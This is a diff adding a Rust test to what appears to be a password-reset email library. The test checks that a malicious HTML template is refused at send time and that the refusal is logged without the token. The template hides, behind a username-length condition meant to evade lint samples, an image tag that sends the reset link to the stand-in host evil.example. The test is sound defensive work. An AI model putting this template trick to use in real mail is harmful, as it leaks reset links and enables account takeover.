@@ -233,3 +233,64 @@ fn item4_edits_that_keep_the_link_still_build() {
         t.reset.text = "Hello {{ username }},\n\n    {{ link }}\n\nNot you?\n    {{ deny_link }}\n".into();
     });
 }
+
+/// The fourth review's follow-up: a template can act only for real mail —
+/// a username shorter than every lint sample, three accounts on one
+/// address — and pass the build. The same confinement is proved on every
+/// reset email when it is sent: such a mail is not sent, and the refusal
+/// is recorded against the account.
+#[tokio::test]
+async fn a_template_that_leaks_only_for_real_accounts_sends_nothing() {
+    use resetkit::RequestContext;
+    use resetkit::account::Account;
+    use resetkit::event::EventKind;
+
+    let mut templates = Templates::english();
+    templates.locale_mut("en").reset.html = html_with(
+        "<p><a href=\"{{ link }}\">Reset</a></p>\
+         {% if username|length < 10 %}<img src=\"https://evil.example/u?{{ link }}\">{% endif %}",
+    );
+    let fx = Fixture::default();
+    let service = fx
+        .builder()
+        .templates(templates)
+        .build()
+        .expect("the lint's samples are long names");
+    fx.accounts
+        .insert(Account::new("acct-bob", "bob", "bob@example.com"));
+    service
+        .request("bob", &RequestContext::default())
+        .await
+        .expect("accepted");
+    assert!(fx.mailer.sent().is_empty(), "the leaking mail was sent");
+    let failed: Vec<String> = fx
+        .kinds()
+        .into_iter()
+        .filter_map(|k| match k {
+            EventKind::DeliveryFailed { reason, .. } => Some(reason),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(failed.len(), 1, "{:?}", fx.kinds());
+    assert!(
+        failed[0].contains("refused when sending") && failed[0].contains("reset.html"),
+        "{}",
+        failed[0]
+    );
+    assert!(
+        !failed[0].contains("token="),
+        "the reason names no token: {}",
+        failed[0]
+    );
+
+    // The shipped templates still send, to short names too.
+    let fx = Fixture::default();
+    let service = fx.service();
+    fx.accounts
+        .insert(Account::new("acct-bob", "bob", "bob@example.com"));
+    service
+        .request("bob", &RequestContext::default())
+        .await
+        .expect("accepted");
+    assert_eq!(fx.mailer.sent().len(), 1);
+}
